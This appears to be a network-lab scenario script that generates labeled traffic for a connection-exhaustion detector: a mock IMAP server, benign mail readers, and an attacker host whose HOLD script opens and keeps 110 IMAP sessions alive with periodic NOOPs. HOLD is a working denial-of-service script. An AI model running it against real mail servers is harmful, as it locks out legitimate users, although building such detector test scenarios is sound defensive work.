"""IMAP sessions of somebody who never logs in."""

from lab.namespaces import listens, wait_for
from lab.range import Range
from lab.scenario import Scenario

# No IMAP server is among the range's programs: greeting, CAPABILITY, NOOP and LOGIN are enough here.
SERVER = """
import socket, threading
def serve(client):
    client.sendall(b'* OK [CAPABILITY IMAP4rev1 LITERAL+ ID ENABLE IDLE] Dovecot ready.\\r\\n')
    for line in client.makefile('rb'):
        tag, command = (line.split() + [b'', b''])[:2]
        if command.upper() == b'LOGOUT':
            client.sendall(b'* BYE Logging out\\r\\n' + tag + b' OK Logout completed.\\r\\n')
            break
        client.sendall(tag + b' OK ' + command.capitalize() + b' completed.\\r\\n')
    client.close()
server = socket.create_server(('', 143), backlog=128)
while True:
    threading.Thread(target=serve, args=(server.accept()[0],), daemon=True).start()
"""
READER = """
import socket, sys, time
with socket.create_connection((sys.argv[1], 143), timeout=3) as server:
    server.recv(400)
    for line in (b'a1 LOGIN berta secret', b'a2 SELECT INBOX', b'a3 FETCH 1:3 FLAGS', b'a4 LOGOUT'):
        server.sendall(line + b'\\r\\n')
        server.recv(400)
        time.sleep(0.1)
"""
HOLD = """
import socket, sys, time
held, end = [], time.monotonic() + float(sys.argv[2])
while time.monotonic() < end:
    for _ in range(20):
        if len(held) < 110:
            held.append(socket.create_connection((sys.argv[1], 143)))
    time.sleep(1)
    if int(time.monotonic()) % 14 == 0:
        for number, one in enumerate(held):
            one.sendall(b'x%d NOOP\\r\\n' % number)
"""


def run(net: Range) -> None:
    attacker, mail = net.inside("pc4"), net.inside("mail")
    mail.start("/usr/bin/python3", "-c", SERVER)
    wait_for("the IMAP server", listens(mail, 143))
    net.everyday()
    for name in ("pc1", "pc2"):
        script = net.inside(name).folder / "reader.py"
        script.write_text(READER)
        net.loop(net.inside(name), f"/usr/bin/python3 {script} {mail.ip}", 2.0)
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.6)
    net.quiet(4)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[mail],
        frames=f"tcp and dst host {mail.ip} and dst port 143",
        responses=f"tcp and src host {mail.ip} and dst host {attacker.ip}",
    ):
        net.tool(attacker, "/usr/bin/python3", "-c", HOLD, mail.ip, "40", seconds=44)
    net.quiet(3)


SCENARIO = Scenario(
    name="connection-exhaustion-held-imap",
    about="An inside host opens 110 IMAP sessions within six seconds, says NOOP now and then, and stays.",
    detectors=("connection-exhaustion",),
    held_out=False,
    snap_octets=100,
    run=run,
)
